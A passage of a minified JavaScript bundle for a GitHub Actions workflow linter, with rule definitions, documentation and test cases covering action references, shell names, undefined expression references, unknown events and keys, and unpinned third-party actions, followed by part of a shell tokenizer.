      - uses: actions/checkout@v4
        with:
          fetch-depth: 0
      - uses: actions/checkout@v4
        with:
          repository: octo/tools
          path: tools
      - run: npm ci
      - uses: ./.github/actions/hello
      - uses: "./.github/actions/hello"
`,files:$s,expect:[{line:14,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step'},{line:15,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step'}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          fetch-depth: 0
      - uses: actions/checkout@v4
        with:
          repository: octo/tools
          path: tools
      - run: npm ci
      - uses: $/.github/actions/hello
      - uses: "$/.github/actions/hello"
`},{name:"no fix where ./ may read something else: no checkout, another repository or ref, git commands, a conditional, sparse or in-folder checkout, a step touching the folder",input:`on: push
jobs:
  none:
    runs-on: ubuntu-latest
    steps:
      - uses: ./.github/actions/hello
  other-repo:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          repository: octo/other
      - uses: ./.github/actions/hello
  other-ref:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - uses: ./.github/actions/hello
  git:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: git fetch origin && git checkout v1
      - uses: ./.github/actions/hello
  conditional:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        if: github.event_name == 'push'
      - uses: ./.github/actions/hello
  sparse:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          sparse-checkout: src
      - uses: ./.github/actions/hello
  in-folder:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          path: src
      - uses: ./.github/actions/hello
  touched:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: cp -r patches/hello .github/actions/hello
      - uses: ./.github/actions/hello
`,files:$s,expect:[{line:6,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step. no quick fix: at this step the workspace may not hold this commit'},{line:13,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step. no quick fix: at this step the workspace may not hold this commit'},{line:21,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step. no quick fix: at this step the workspace may not hold this commit'},{line:27,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step. no quick fix: at this step the workspace may not hold this commit'},{line:33,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step. no quick fix: at this step the workspace may not hold this commit'},{line:40,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step. no quick fix: at this step the workspace may not hold this commit'},{line:47,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step. no quick fix: at this step the workspace may not hold this commit'},{line:53,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step. no quick fix: at this step the workspace may not hold this commit'}],fixed:`on: push
jobs:
  none:
    runs-on: ubuntu-latest
    steps:
      - uses: ./.github/actions/hello
  other-repo:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          repository: octo/other
      - uses: ./.github/actions/hello
  other-ref:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - uses: ./.github/actions/hello
  git:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: git fetch origin && git checkout v1
      - uses: ./.github/actions/hello
  conditional:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        if: github.event_name == 'push'
      - uses: ./.github/actions/hello
  sparse:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          sparse-checkout: src
      - uses: ./.github/actions/hello
  in-folder:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          path: src
      - uses: ./.github/actions/hello
  touched:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: cp -r patches/hello .github/actions/hello
      - uses: ./.github/actions/hello
`},{name:"not reported: $/ already, a folder only an earlier step could create, invalid forms, expressions, the repository root, other repositories",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: $/.github/actions/hello
      - uses: ./.github/actions/generated
      - uses: ./.github/actions/hello@v1
      - uses: ./\${{ matrix.dir }}
      - uses: ./
      - uses: octo/action@v1
  b:
    uses: $/.github/workflows/reuse.yml
  c:
    uses: ./.github/workflows/reuse.yml@main
  d:
    uses: octo/repo/.github/workflows/reuse.yml@v1
`,files:$s,expect:[]},{name:"a reusable workflow: steps left alone (./ is the caller's checkout), job calls without a fix",path:".github/workflows/lib.yml",input:`on:
  push:
  workflow_call:
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: ./.github/actions/hello
  b:
    uses: ./.github/workflows/reuse.yml
`,files:$s,expect:[{line:11,col:11,message:'prefer "$/.github/workflows/reuse.yml" to "./.github/workflows/reuse.yml": "$/" is the recommended reference to a reusable workflow of this repository (the same commit as the caller). no quick fix: this workflow has "workflow_call"'}],fixed:`on:
  push:
  workflow_call:
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: ./.github/actions/hello
  b:
    uses: ./.github/workflows/reuse.yml
`},{name:"a step shared through an alias is reported once, and fixed only if safe in every job",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps: &s
      - uses: ./.github/actions/hello
  b:
    runs-on: ubuntu-latest
    steps: *s
  c:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - &h
        uses: ./.github/actions/hello
  d:
    runs-on: ubuntu-latest
    steps:
      - *h
`,files:$s,expect:[{line:6,col:15,message:'prefer "$/.github/actions/hello" to "./.github/actions/hello": "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step. no quick fix: at this step the workspace may not hold this commit'},{line:15,col:15,message:'prefer "$/.github/actions/hello"'}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps: &s
      - uses: ./.github/actions/hello
  b:
    runs-on: ubuntu-latest
    steps: *s
  c:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - &h
        uses: ./.github/actions/hello
  d:
    runs-on: ubuntu-latest
    steps:
      - *h
`}]},bv=AC;var wv={any:["bash","pwsh","python","sh","cmd","powershell"],windows:["bash","pwsh","python","cmd","powershell"],unix:["bash","pwsh","python","sh"]};var vv=new WeakMap;function kv(n,e){if(!e)return"any";let t=vv.get(e);return t===void 0&&vv.set(e,t=NC(n,e)),t}function NC(n,e){let t=e.runsOn;L(t)&&(t=T(n,Y(n,t).get("labels")?.value));let s=G(t)?t.items.map(r=>T(n,r)):[t],i="any";for(let r of s){let o=(P(r)??"").toLowerCase(),a="any";if(o==="windows"||o.startsWith("windows-")?a="windows":(o==="linux"||o==="macos"||o.startsWith("ubuntu-")||o.startsWith("macos-"))&&(a="unix"),a!=="any"){if(i!=="any"&&i!==a)return"any";i=a}}return i}function xv(n,e){let t=de(n,Y(n,de(n,Y(n,e).get("defaults"))).get("run")),s=T(n,Y(n,t).get("shell")?.value);return F(s)?s:void 0}var EC={id:"shell-name",language:["workflow","action"],severity:"error",compat:{actionlint:"shell-name"},docs:{summary:"A `shell:` (of a step or of `defaults.run`) is not a shell GitHub knows (`bash`, `pwsh`, `python`, `sh`, `cmd`, `powershell`) or a custom command with `{0}`, or it is not available on the job's runner (`cmd` and `powershell` on Linux and macOS, `sh` on Windows).",why:"GitHub fails the step before it runs when it does not know the shell; a custom shell needs `{0}` where the script file goes.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo hello
        shell: powershell
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo hello
        shell: pwsh
`},check({model:n,report:e}){let t=(i,r)=>{let o=P(i);if(!i||o===void 0||o.includes("{0}")||o.includes("${{"))return;let a=wv[r];if(a.includes(o.toLowerCase()))return;let c=r!=="any"&&wv.any.includes(o.toLowerCase()),l=c?r==="windows"?" on Windows":" on macOS or Linux":"",u=c?o.toLowerCase()==="sh"?"bash":"pwsh":ae(o.split(/\s/)[0],a);e({message:`shell name ${JSON.stringify(o)} is invalid${l}. available names are ${a.map(p=>JSON.stringify(p)).join(", ")}`+(/\s/.test(o.trim())?'. a custom shell command needs "{0}" where the script file goes':""),range:n.rangeOf(i),fixes:u&&!/\s/.test(o.trim())?[{title:`Change to "${u}"`,preferred:!0,edits:[{range:n.rangeOf(i),newText:u}]}]:void 0})},s=K(n);if(n.kind==="workflow"){t(xv(n,s.root),"any");for(let i of s.jobs)t(xv(n,i.node),kv(n,i))}for(let{job:i,step:r}of xe(n))!r.shellNode||r.run===void 0&&!r.pairs.has("run")||t(r.shellNode,kv(n,i))},tests:[{name:"unknown shells and shells of another platform",input:`on: push
defaults:
  run:
    shell: fish
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
        shell: powershell
      - run: echo
        shell: bsh
  b:
    runs-on: [self-hosted, windows]
    defaults:
      run:
        shell: sh
    steps:
      - run: echo
        shell: node index.js
`,expect:[{line:4,col:12,message:'shell name "fish" is invalid. available names are "bash", "pwsh", "python", "sh", "cmd", "powershell"'},{line:10,col:16,message:'shell name "powershell" is invalid on macOS or Linux. available names are "bash", "pwsh", "python", "sh"'},{line:12,col:16,message:'"bsh" is invalid'},{line:17,col:16,message:'shell name "sh" is invalid on Windows'},{line:20,col:16,message:'a custom shell command needs "{0}"'}],fixed:`on: push
defaults:
  run:
    shell: fish
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
        shell: pwsh
      - run: echo
        shell: bash
  b:
    runs-on: [self-hosted, windows]
    defaults:
      run:
        shell: bash
    steps:
      - run: echo
        shell: node index.js
`},{name:"known shells, custom shells, expressions, unknown platforms and composite actions",input:`on: push
jobs:
  a:
    runs-on: \${{ matrix.os }}
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
    steps:
      - run: echo
        shell: cmd
      - run: echo
        shell: Bash
      - run: print(1)
        shell: python3 {0}
      - run: echo
        shell: \${{ matrix.shell }}
  b:
    runs-on: windows-latest
    steps:
      - run: echo
        shell: powershell
`,expect:[]},{name:"composite action steps",path:"action.yml",input:`name: a
description: d
runs:
  using: composite
  steps:
    - run: echo
      shell: bassh
    - run: echo
      shell: bash
`,expect:[{line:7,col:14,message:'shell name "bassh" is invalid'}],fixed:`name: a
description: d
runs:
  using: composite
  steps:
    - run: echo
      shell: bash
    - run: echo
      shell: bash
`}]},Rv=EC;var _C={id:"undefined-reference",language:"workflow",severity:"error",compat:{actionlint:"expression"},docs:{summary:"An expression reads something that does not exist: an unknown context or function, a step id that is not defined before, a job missing from `needs`, a matrix key or input that is not declared.",why:"GitHub evaluates a missing property to an empty string without any error, so a typo such as `steps.biuld.outputs.version` silently produces an empty value. Dynamic sources (matrices built with `fromJSON`, secrets, variables, outputs of unknown actions) are never reported.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: version
        run: echo "v=1" >> "$GITHUB_OUTPUT"
      - run: echo \${{ steps.versoin.outputs.v }}
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: version
        run: echo "v=1" >> "$GITHUB_OUTPUT"
      - run: echo \${{ steps.version.outputs.v }}
`},check(n){ze(n,"undefined-reference")},tests:[{name:"step defined later",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ steps.later.outputs.x }}
      - id: later
        run: echo
`,expect:[{line:6,col:29,message:"defined later"}]},{name:"needs not listed",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    outputs:
      v: x
    steps:
      - run: echo
  b:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ needs.a.outputs.v }}
`,expect:[{line:12,message:'not listed in "needs"'}]},{name:"undeclared matrix key and input",input:`on:
  workflow_dispatch:
    inputs:
      level:
        type: string
jobs:
  a:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        os: [ubuntu-latest]
        include:
          - extra: 1
    steps:
      - run: echo \${{ matrix.os }} \${{ matrix.extra }} \${{ matrix.node }} \${{ inputs.levl }}
`,expect:[{line:15,message:'property "node" is not defined'},{line:15,message:'property "levl" is not defined'}]},{name:"undefined variable and function",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ foo.bar }} \${{ lower(github.ref) }}
`,expect:[{line:6,col:23,message:'undefined variable "foo"'},{line:6,message:'undefined function "lower"'}]},{name:"outputs of self-repository ($/) actions and reusable workflows are read from their files",input:`on: push
jobs:
  call:
    uses: $/.github/workflows/reuse.yml
  b:
    needs: [call]
    runs-on: ubuntu-latest
    steps:
      - id: h
        uses: $/.github/actions/hello
      - run: echo \${{ steps.h.outputs.greeting }} \${{ steps.h.outputs.nope }} \${{ needs.call.outputs.url }} \${{ needs.call.outputs.nope }}
`,files:{".github/actions/hello/action.yml":`name: h
description: d
outputs:
  greeting:
    description: g
    value: x
runs:
  using: composite
  steps: []
`,".github/workflows/reuse.yml":`on:
  workflow_call:
    outputs:
      url:
        value: \${{ jobs.a.outputs.u }}
jobs:
  a:
    runs-on: ubuntu-latest
    outputs:
      u: x
    steps:
      - run: echo
`},expect:[{line:11,col:71,message:'property "nope" is not defined in object type {greeting: string}'},{line:11,col:132,message:'property "nope" is not defined in object type {url: string}'}]},{name:"dynamic sources are open",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    strategy:
      matrix: \${{ fromJSON(vars.MATRIX) }}
    steps:
      - id: s
        uses: some/action@v1
      - run: echo \${{ matrix.anything }} \${{ secrets.ANY }} \${{ vars.X }} \${{ steps.s.outputs.whatever }} \${{ github.event.pull_request.title }} \${{ env.FOO }}
`,expect:[]}]},Ov=_C;var $C={id:"unknown-event",language:"workflow",severity:"error",compat:{actionlint:"events"},docs:{summary:"An event under `on:` that GitHub does not know (names are case-sensitive and use underscores).",why:"GitHub rejects the workflow, and a near miss such as `pull-request` or `Push` is easy to overlook. The fix offers the nearest event name.",bad:`on:
  pull-request:
    branches: [main]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`,good:`on:
  pull_request:
    branches: [main]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`},check(n){Pe(n,"unknown-event")},tests:[{name:"in a mapping, a list and a string",input:`on:
  SCHEDULE:
    - cron: "0 0 * * *"
  pull-request:
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:2,col:3,message:'unknown Webhook event "SCHEDULE". Did you mean "schedule"?'},{line:4,col:3,message:'Did you mean "pull_request"'}],fixed:`on:
  schedule:
    - cron: "0 0 * * *"
  pull_request:
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`},{name:"list and string forms",input:`on: [push, pullrequest]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:1,col:12,message:'Did you mean "pull_request"'}]},{name:"a string",input:`on: foo
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:1,col:5,message:'unknown Webhook event "foo"'}]},{name:"known events",input:`on:
  push:
  pull_request_target:
    types: [opened]
  workflow_dispatch:
  workflow_call:
  merge_group:
  repository_dispatch:
    types: [deploy]
  schedule:
    - cron: "0 0 * * 1"
  issue_comment:
  release:
    types: [published]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[]}]},Sv=$C;var CC={id:"unknown-key",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"Keys GitHub Actions does not know, at any level (workflow, events, jobs, steps, containers, inputs, action metadata), are reported where they are written.",why:"GitHub rejects a workflow with an unknown key, but only after you push it. A typo such as `job:` or `run-on:`, a key of the wrong case (`Runs-On:`), or a key of the other kind of step (`with:` on a `run:` step) is caught here, with a fix to the nearest key. The key sets come from GitHub's own workflow schema.",bad:`on: push
job:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo hi
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo hi
`},check(n){Pe(n,"unknown-key")},tests:[{name:"typo of jobs",input:`on: push
job:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:2,col:1,message:'Did you mean "jobs"'}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`},{name:"unknown key without suggestion",input:`on: push
foo: bar
jobs:
  a:
    runs-on: x
    steps: [run: x]
`,expect:[{line:2,col:1,message:'"foo"'}]},{name:"all known top-level keys",input:`name: ci
run-name: x
on: push
permissions: {}
env: {}
defaults:
  run:
    shell: bash
concurrency: x
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[]},{name:"typo in a job",input:`on: push
jobs:
  a:
    run-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:4,col:5,message:'unexpected key "run-on" for job "a". expected one of'}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`},{name:"no rename to a key the mapping already has (before or after)",input:`on: push
jobs:
  a:
    Runs-On: ubuntu-latest
    runs-on: ubuntu-latest
    steps:
      - run: echo
        Run: echo
`,expect:[{line:4,col:5,message:'did you mean "runs-on"'},{line:8,col:9,message:'did you mean "run"'}],fixed:`on: push
jobs:
  a:
    Runs-On: ubuntu-latest
    runs-on: ubuntu-latest
    steps:
      - run: echo
        Run: echo
`},{name:"keys are case-sensitive",input:`on: push
jobs:
  a:
    Runs-On: ubuntu-latest
    steps:
      - run: echo
        SHELL: bash
`,expect:[{line:4,col:5,message:'did you mean "runs-on"'},{line:7,col:9,message:'did you mean "shell"'}]},{name:"with on a run step, run and shell on an action step",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
        with:
          x: 1
      - uses: actions/checkout@v4
        shell: bash
        working-directory: x
`,expect:[{line:7,col:9,message:"for step to run shell command"},{line:10,col:9,message:'"shell" is only for steps that run a script'},{line:11,col:9,message:"for step to execute action"}]},{name:"reusable workflow call jobs take only some keys",input:`on: push
jobs:
  call:
    uses: ./.github/workflows/x.yml
    runs-on: ubuntu-latest
  build:
    runs-on: ubuntu-latest
    with:
      a: 1
    steps:
      - run: echo
`,files:{".github/workflows/x.yml":`on:
  workflow_call:
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`},expect:[{line:5,col:5,message:'when a reusable workflow is called with "uses", "runs-on" is not available'},{line:8,col:5,message:'"with" is only available for a reusable workflow call'}]},{name:"nested sections: container, strategy, concurrency, environment, inputs",input:`on:
  workflow_dispatch:
    inputs:
      x:
        descripton: d
jobs:
  a:
    runs-on: ubuntu-latest
    container:
      image: node
      option: --cpus 1
    strategy:
      failfast: false
    concurrency:
      group: g
      cancel: true
    environment:
      name: prod
      URL: https://x
    steps:
      - run: echo
`,expect:[{line:5,col:9,message:'Did you mean "description"'},{line:11,col:7,message:'Did you mean "options"'},{line:13,col:7,message:'Did you mean "fail-fast"'},{line:16,col:7,message:'"cancel"'},{line:19,col:7,message:'did you mean "url"'}]},{name:"anchors and aliases are resolved",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - &s
        run: echo
        nme: x
  b:
    runs-on: ubuntu-latest
    steps:
      - *s
`,expect:[{line:8,col:9,message:'Did you mean "name"'}]},{name:"action metadata keys",path:"action.yml",input:`name: a
description: d
runs:
  using: node20
  main: x.js
brandin: {}
`,expect:[{line:6,message:'Did you mean "branding"'}]},{name:'action runs: the kind of action comes from "using", the stray key is reported',path:"action.yml",input:`name: a
description: d
runs:
  using: node20
  main: index.js
  image: Dockerfile
`,expect:[{line:6,col:3,message:'unexpected key "image" for "runs" section; "image" belongs to a Docker action, but "using: node20" makes this a JavaScript action. expected one of "using", "main", "pre", "pre-if", "post", "post-if"'}]},{name:"action runs: docker and composite actions with keys of another kind",path:"action.yml",input:`name: b
description: d
runs:
  using: docker
  image: Dockerfile
  main: index.js
`,expect:[{line:6,col:3,message:'unexpected key "main" for "runs" section; "main" belongs to a JavaScript action, but "using: docker" makes this a Docker action. expected one of "using", "image", "entrypoint"'}]},{name:"action runs: a composite action with a script",path:"action.yml",input:`name: c
description: d
runs:
  using: composite
  main: index.js
  steps:
    - run: echo
      shell: bash
`,expect:[{line:5,col:3,message:'unexpected key "main" for "runs" section; "main" belongs to a JavaScript action, but "using: composite" makes this a composite action. expected one of "using", "steps"'}]},{name:"action runs: a key of no kind of action keeps its typo fix",path:"action.yml",input:`name: a
description: d
runs:
  using: node20
  main: index.js
  postt: cleanup.js
`,expect:[{line:6,col:3,message:'unexpected key "postt" for "runs" section. expected one of "using", "main", "pre", "pre-if", "post", "post-if". Did you mean "post"?'}],fixed:`name: a
description: d
runs:
  using: node20
  main: index.js
  post: cleanup.js
`},{name:"composite action steps",path:"action.yml",input:`name: a
description: d
runs:
  using: composite
  steps:
    - run: echo
      shell: bash
      with: {}
`,expect:[{line:8,col:7,message:"for step to run shell command"}]},{name:"expressions and free-form sections (env, with, matrix, outputs, services)",input:`on: push
env:
  ANY_NAME: 1
jobs:
  a:
    runs-on: \${{ matrix.os }}
    strategy:
      matrix:
        os: [ubuntu-latest]
        anything: [1, 2]
    outputs:
      out: \${{ steps.x.outputs.y }}
    services:
      redis:
        image: redis
    steps:
      - uses: actions/checkout@v4
        with:
          whatever: 1
`,expect:[]}]},Mv=CC;var DC=new Set(["actions","github"]),FC={id:"unpinned-action",language:["workflow","action"],severity:"warning",optIn:!0,compat:{},docs:{summary:"A third-party action or reusable workflow is referenced by a tag or branch instead of a full commit SHA (opt-in).",why:"Tags and branches can be moved: whoever controls the action's repository (or steals its credentials) can change the code your workflow runs, with your secrets. A full 40-character SHA cannot change; keep the version in a comment (`@<sha> # v4.1.0`) for updates.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker/login-action@v3
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772 # v3.4.0
`},check({model:n,report:e}){let t=[...xe(n).map(({step:s})=>({uses:s.uses,node:s.usesNode})),...K(n).jobs.map(s=>({uses:s.uses,node:s.usesNode}))];for(let{uses:s,node:i}of t){if(!s||!i)continue;let r=ct(s.trim());!r||DC.has(r.repo.split("/")[0].toLowerCase())||/^[0-9a-f]{40}$/.test(r.ref)||e({message:`${JSON.stringify(s.trim())} is not pinned to a full commit SHA: the owner of ${r.repo} can change the code behind ${JSON.stringify(r.ref)}. pin it as ${r.name}@<40-character SHA> # ${r.ref}`,range:n.rangeOf(i)})}},tests:[{name:"tags and branches of third-party actions and workflows",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: docker/login-action@v3
      - uses: someone/tool/sub@main
  b:
    uses: org/repo/.github/workflows/x.yml@v1
`,expect:[{line:6,col:15,message:'"docker/login-action@v3" is not pinned to a full commit SHA'},{line:7,col:15,message:"someone/tool"},{line:9,col:11,message:"org/repo"}]},{name:"SHAs, first-party, local and docker actions",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: github/codeql-action/init@v3
      - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772
      - uses: ./local
      - uses: docker://alpine:3
`,expect:[]}]},Av=FC;function Ev(n,e,t){switch(e){case"sh":return new Kp(n,t).run();case"pwsh":return new Jp(n,t).run();case"js":return new Xp(n,t).run();case"cmd":return t.map(()=>({kind:"code"}))}}var zi=class{constructor(e,t){this.s=e;this.spans=t;this.n=e.length,this.out=t.map(()=>({kind:"unknown"}))}s;spans;i=0;n;next=0;out;openStrings=[];spanAt(e){for(;this.next<this.spans.length&&this.spans[this.next].start<e;)this.next++;return this.next<this.spans.length&&this.spans[this.next].start===e}take(e){let t=this.next++;this.out[t]=e,(e.kind==="single"||e.kind==="double")&&this.openStrings.push(e),this.i=this.spans[t].end}escaped(e){this.spanAt(e)?(this.i=e,this.take({kind:"unknown"})):this.i=e+1}closeString(e,t){let s=this.openStrings.filter(i=>i.open===e);this.openStrings=this.openStrings.filter(i=>i.open!==e);for(let i of s)i.close=t,t===void 0&&(i.kind="unknown")}fill(e,t){for(;this.i<e;)this.spanAt(this.i)?this.take({kind:t}):this.i++;this.i=Math.max(this.i,e)}lineEnd(e){let t=this.s.indexOf(`
`,e);return t<0?this.n:t}},Kp=class extends zi{stack=[{t:"cmd",sub:!1,depth:0}];pending=[];queue=[];wordStart=!0;word="";prevWord="";inTest=!1;dqOpen=[];run(){for(;this.i<this.n;){let e=this.stack[this.stack.length-1];switch(e.t){case"cmd":if(!this.cmd(e))return this.out;break;case"dq":this.dq();break;case"param":case"arith":case"bq":this.opaque(e);break;case"hd":this.heredocBody(e);break}}return this.out}insideOpaque(){return this.stack.some(e=>e.t==="bq"||e.t==="param"||e.t==="arith")}endWord(){this.word&&(this.prevWord=this.word,this.word==="[["?this.inTest=!0:this.word==="]]"&&(this.inTest=!1)),this.word="",this.wordStart=!0}openExpansion(){let e=this.s,t=this.i;return e[t]==="`"?(this.stack.push({t:"bq"}),this.i++,!0):e[t]!=="$"?!1:e[t+1]==="("&&e[t+2]==="("?(this.stack.push({t:"arith",depth:0}),this.i+=3,!0):e[t+1]==="("?(this.stack.push({t:"cmd",sub:!0,depth:0}),this.i+=2,this.wordStart=!0,!0):e[t+1]==="{"?(this.stack.push({t:"param",depth:0}),this.i+=2,!0):!1}cmd(e){let t=this.s,s=t[this.i];if(this.spanAt(this.i)){let i=this.inTest&&["=~","==","!=","="].includes(this.prevWord)&&this.word==="";return this.take({kind:i||this.insideOpaque()?"unknown":"code"}),this.word+="x",this.wordStart=!1,!0}if(s==="\\")return this.word+="x",this.wordStart=!1,this.escaped(this.i+1),!0;if(s===`
`)return this.endWord(),this.i++,this.pending.length&&(this.queue=this.pending,this.pending=[],this.nextHeredoc()),!0;if(s===" "||s==="	")return this.endWord(),this.i++,!0;if(s==="#"&&this.wordStart)return this.fill(this.lineEnd(this.i),"comment"),!0;if(s==="'"){this.wordStart=!1,this.word+="x";let i=this.i,r=t.indexOf("'",i+1);return this.i++,this.fillString(r<0?this.n:r,"single",i),this.closeString(i,r<0?void 0:r),this.i=r<0?this.n:r+1,!0}if(s==="$"&&(t[this.i+1]==="'"||t[this.i+1]==='"')){let i=t[this.i+1];this.wordStart=!1,this.word+="x";let r=this.i+2;for(;r<this.n&&t[r]!==i;)r+=t[r]==="\\"?2:1;return this.i+=2,this.fill(Math.min(r,this.n),"unknown"),this.i=r+1,!0}return s==='"'?(this.wordStart=!1,this.word+="x",this.stack.push({t:"dq"}),this.dqOpen.push(this.i),this.i++,!0):s==="$"||s==="`"?(this.wordStart=!1,this.word+="x",this.openExpansion()||this.dollar(),!0):s==="("?this.wordStart&&t[this.i+1]==="("?(this.stack.push({t:"arith",depth:0}),this.i+=2,!0):(e.depth++,this.endWord(),this.i++,!0):s===")"?(this.endWord(),this.i++,e.depth===0&&e.sub?this.stack.pop():e.depth>0&&e.depth--,!0):s==="<"&&t[this.i+1]==="<"&&t[this.i+2]!=="<"?this.heredocOperator():s==="<"&&t.startsWith("<<<",this.i)?(this.endWord(),this.i+=3,!0):s===";"||s==="&"||s==="|"||s==="<"||s===">"?(this.endWord(),this.word="",this.prevWord=s,this.i++,!0):(this.wordStart=!1,this.word+=s,this.i++,!0)}fillString(e,t,s){for(;this.i<e;)this.spanAt(this.i)?this.take({kind:t,open:s}):this.i++}dq(){let t=this.s[this.i],s=this.dqOpen[this.dqOpen.length-1];if(this.spanAt(this.i)){this.take({kind:this.insideOpaque()?"unknown":"double",open:s});return}if(t==="\\"){this.escaped(this.i+1);return}if(t==='"'){this.stack.pop(),this.closeString(this.dqOpen.pop(),this.i),this.i++;return}if(!((t==="$"||t==="`")&&this.openExpansion())){if(t==="$"){this.dollar();return}this.i++}}dollar(){this.i++,this.spanAt(this.i)&&this.take({kind:"unknown"})}opaque(e){let t=this.s,s=t[this.i];if(this.spanAt(this.i)){this.take({kind:"unknown"});return}if(s==="\\"){this.escaped(this.i+1);return}if(e.t==="bq"){s==="`"&&this.stack.pop(),this.i++;return}if(e.t==="param"){if(s==='"'){this.stack.push({t:"dq"}),this.dqOpen.push(this.i),this.i++;return}if(s==="'"){let i=t.indexOf("'",this.i+1);this.i++,this.fill(i<0?this.n:i,"unknown"),this.i=i<0?this.n:i+1;return}if((s==="$"||s==="`")&&this.openExpansion())return;s==="{"?e.depth++:s==="}"&&(e.depth===0?this.stack.pop():e.depth--),this.i++;return}if(!((s==="$"||s==="`")&&this.openExpansion())){if(s==="(")e.depth++;else 